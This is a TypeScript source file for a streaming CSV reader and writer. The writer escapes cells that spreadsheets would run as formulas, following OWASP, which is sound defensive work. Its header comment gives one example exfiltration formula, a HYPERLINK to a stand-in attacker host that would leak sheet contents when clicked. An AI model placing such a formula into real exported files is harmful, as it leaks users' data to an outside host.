/**
 * CSV as RFC 4180 writes it: fields separated by commas, records by CRLF or LF, a field that holds a comma,
 * a quote or a line break is quoted and its quotes doubled. The reader is incremental (chunks in, records
 * out) so a large file is never held whole, and it stops collecting a record past a size limit, so one
 * enormous line costs no more memory than the limit.
 *
 * CSV files are opened in spreadsheets, which run a cell starting with = + - @ (or a tab or carriage
 * return before one) as a formula: `=HYPERLINK("https://evil.example/?"&B2,"More info")` in a description
 * would leak the sheet when clicked. So the writer escapes such cells as OWASP advises, with a leading `'`
 * (a spreadsheet then shows the text), and also every cell that starts with `'` itself; the reader gives
 * cells as written, and unescapeFormula takes exactly one leading `'` off. Every value reads back exactly.
 */

export interface CsvRecord {
  /** The line the record starts on, from 1. */
  line: number;
  fields: string[];
  /** The record was longer than the limit: its fields were dropped. */
  oversized?: true;
}

/** A CSV that cannot be read as records at all (an unclosed quote). */
export class CsvSyntaxError extends Error {
  override readonly name = 'CsvSyntaxError';
  readonly line: number;
  constructor(line: number, message: string) {
    super(message);
    this.line = line;
  }
}

const QUOTE = 34;
const COMMA = 44;
const LF = 10;
const CR = 13;

export class CsvReader {
  readonly #maxRecordChars: number;
  #records: CsvRecord[] = [];
  #fields: string[] = [];
  #field = '';
  /** Something (text or an opening quote) was read for the current field, even if it was not kept. */
  #fieldStarted = false;
  #recordChars = 0;
  #oversized = false;
  #quoted = false;
  /** Inside a quoted field, the last character seen was a quote: either its end or the first of a "" pair. */
  #quotePending = false;
  /** The previous chunk ended in CR: an LF starting the next one belongs to the same line break. */
  #afterCr = false;
  #line = 1;
  #recordLine = 1;
  #started = false;

  constructor(options: { maxRecordChars?: number } = {}) {
    this.#maxRecordChars = options.maxRecordChars ?? 1 << 20;
  }

  /** Feeds a chunk; returns the records it completed. */
  push(chunk: string): CsvRecord[] {
    let text = chunk;
    if (!this.#started && text.length > 0) {
      this.#started = true;
      if (text.charCodeAt(0) === 0xfeff) text = text.slice(1);
    }
    let i = 0;
    if (this.#afterCr && text.charCodeAt(0) === LF) i = 1;
    this.#afterCr = false;
    const n = text.length;
    while (i < n) {
      if (this.#quoted) {
        if (this.#quotePending) {
          this.#quotePending = false;
          if (text.charCodeAt(i) === QUOTE) {
            this.#append('"');
            i++;
            continue;
          }
          this.#quoted = false;
          continue;
        }
        const close = text.indexOf('"', i);
        const end = close < 0 ? n : close;
        this.#append(text.slice(i, end));
        this.#line += countLineBreaks(text, i, end);
        if (close < 0) break;
        this.#quotePending = true;
        i = close + 1;
        continue;
      }
      const c = text.charCodeAt(i);
      if (c === COMMA) {
        this.#endField();
        i++;
      } else if (c === LF || c === CR) {
        this.#endRecord();
        this.#line++;
        i++;
        if (c === CR) {
          if (i === n) this.#afterCr = true;
          else if (text.charCodeAt(i) === LF) i++;
        }
        this.#recordLine = this.#line;
      } else if (c === QUOTE && !this.#fieldStarted) {
        this.#quoted = true;
        this.#fieldStarted = true;
        i++;
      } else {
        // An unquoted run up to the next separator; a stray quote inside it is kept as text.
        let j = i + 1;
        while (j < n) {
          const d = text.charCodeAt(j);
          if (d === COMMA || d === LF || d === CR) break;
          j++;
        }
        this.#append(text.slice(i, j));
        i = j;
      }
    }
    return this.#take();
  }

  /** Ends the input; returns the last record, or throws when a quoted field was never closed. */
  end(): CsvRecord[] {
    if (this.#quoted && !this.#quotePending) throw new CsvSyntaxError(this.#recordLine, 'a quoted field is not closed before the end of the file');
    this.#quoted = false;
    this.#quotePending = false;
    if (this.#fieldStarted || this.#fields.length > 0 || this.#oversized) this.#endRecord();
    return this.#take();
  }

  #append(text: string): void {
    this.#fieldStarted = true;
    if (this.#oversized) return;
    this.#recordChars += text.length;
    if (this.#recordChars > this.#maxRecordChars) {
      this.#oversized = true;
      this.#fields = [];
      this.#field = '';
      return;
    }
    this.#field += text;
  }

  #endField(): void {
    if (!this.#oversized) this.#fields.push(this.#field);
    this.#field = '';
    this.#fieldStarted = false;
    this.#quoted = false;
  }

  #endRecord(): void {
    this.#endField();
    const blank = this.#fields.length === 1 && this.#fields[0] === '';
    if (this.#oversized) this.#records.push({ line: this.#recordLine, fields: [], oversized: true });
    else if (!blank) this.#records.push({ line: this.#recordLine, fields: this.#fields });
    this.#fields = [];
    this.#recordChars = 0;
    this.#oversized = false;
  }

  #take(): CsvRecord[] {
    const done = this.#records;
    this.#records = [];
    return done;
  }
}

function countLineBreaks(text: string, from: number, to: number): number {
  let count = 0;
  for (let i = text.indexOf('\n', from); i >= 0 && i < to; i = text.indexOf('\n', i + 1)) count++;
  return count;
}

/** One CSV line (with its LF): every field escaped from formulas, and quoted only when it needs it. */
export function csvLine(fields: readonly string[]): string {
  return `${fields.map((field) => csvField(escapeFormula(field))).join(',')}\n`;
}

function csvField(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

/** What a spreadsheet runs as a formula (OWASP's list), and the escape's own quote. */
const ESCAPED_START = /^[=+\-@\t\r']/;

/** A value as a cell no spreadsheet runs: `'` before one that starts with = + - @ tab CR or `'`. */
export function escapeFormula(value: string): string {
  return ESCAPED_START.test(value) ? `'${value}` : value;
}

/** A cell as read back into the value written: one leading `'` taken off. */
export function unescapeFormula(cell: string): string {
  return cell.startsWith("'") ? cell.slice(1) : cell;
}
